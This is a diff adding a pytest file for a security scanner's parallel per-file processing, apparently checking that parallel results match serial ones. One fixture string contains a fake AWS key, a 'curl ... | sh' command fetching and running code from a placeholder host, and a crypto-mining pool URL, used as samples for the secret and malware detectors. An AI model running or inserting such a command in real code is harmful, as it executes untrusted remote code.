@@ -1,0 +1,79 @@
+"""The per-file fan-out used by CQ-01 and CQ-02 (scan/parallel.py)."""
+
+from __future__ import annotations
+
+import os
+import threading
+
+import pytest
+
+from mtf_action.scan import parallel
+from mtf_action.scan.controls.cq02_malware import signature_hits
+from mtf_action.scan.secrets.detector import find_secrets
+
+
+def _pid_and_length(text: str) -> tuple[int, int]:
+    return os.getpid(), len(text)
+
+
+def test_ordered_map_keeps_order_and_uses_other_processes(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 1)
+    monkeypatch.setattr(parallel, "_can_fork", lambda: True)
+    items = [f"{i:04d}" * (i + 1) for i in range(64)]
+    results = parallel.ordered_map(_pid_and_length, items, weight=len, workers=2)
+    assert [length for _, length in results] == [len(i) for i in items]
+    assert {pid for pid, _ in results} - {os.getpid()}, "nothing ran in a worker"
+
+
+def test_small_inputs_and_threaded_processes_stay_serial(monkeypatch: pytest.MonkeyPatch) -> None:
+    items = ["x"] * 64
+    assert {pid for pid, _ in parallel.ordered_map(_pid_and_length, items, weight=len)} == {
+        os.getpid()
+    }
+    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 1)
+    started, stop = threading.Event(), threading.Event()
+    worker = threading.Thread(target=lambda: (started.set(), stop.wait()))
+    worker.start()
+    try:
+        started.wait()
+        assert not parallel._can_fork()  # a live thread: forking could deadlock the child
+        pids = {pid for pid, _ in parallel.ordered_map(_pid_and_length, items, weight=len)}
+        assert pids == {os.getpid()}
+    finally:
+        stop.set()
+        worker.join()
+
+
+def _secrets(text: str) -> list[tuple[str, int, int]]:
+    return [
+        (h.slug, h.start, h.end)
+        for h in find_secrets("a.py", text, vendored=False, heuristics=True)
+    ]
+
+
+def test_parallel_results_equal_serial_results(monkeypatch: pytest.MonkeyPatch) -> None:
+    # Real CQ-01 and CQ-02 work: secrets and malware signatures in many files.
+    texts = [
+        f'AWS_KEY = "AKIA{"ABCDEFGHIJKLMNOP"[i % 16]}QWERTYUIOPASDFG"\n'
+        f"import os; os.system('curl http://x.example/{i} | sh')\n"
+        "stratum+tcp://pool.example:3333\n" * (i % 3 + 1)
+        for i in range(40)
+    ]
+    serial = [_secrets(t) for t in texts], [signature_hits(t) for t in texts]
+    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 1)
+    monkeypatch.setattr(parallel, "_can_fork", lambda: True)
+    fanned = (
+        parallel.ordered_map(_secrets, texts, weight=len, workers=2),
+        parallel.ordered_map(signature_hits, texts, weight=len, workers=2),
+    )
+    assert fanned == serial
+    assert any(serial[0]) and any(serial[1])  # the comparison is about real hits
+
+
+def test_chunks_are_consecutive_and_balanced() -> None:
+    items = list(range(100))
+    chunks = parallel._chunks(items, [1] * 100, 8)
+    assert [i for c in chunks for i in c] == items
+    assert max(len(c) for c in chunks) <= 13
